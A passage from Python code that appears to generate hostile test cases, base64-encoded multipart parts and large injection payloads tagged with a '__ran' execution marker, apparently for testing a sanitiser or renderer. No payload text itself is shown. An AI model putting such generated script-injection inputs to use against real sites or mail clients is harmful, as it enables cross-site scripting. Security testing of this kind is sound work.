               + b"Content-Type: " + kind.encode() + b"\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(data)
               + b"\n--" + boundary.encode() + b"--\n")
        yield Hostile(number, "charset", title, raw, (data, kind.split('"')[0]))
    for title, payload in big():
        number = next(numbers)
        filled = fill(payload, number, port) if len(payload) < 1000 else payload.replace(
            "=J>", f"=__ran(String({number}))>").replace(">J<", f">__ran(String({number}))<")
        yield Hostile(number, "big", title, with_html(number, filled), control(filled))
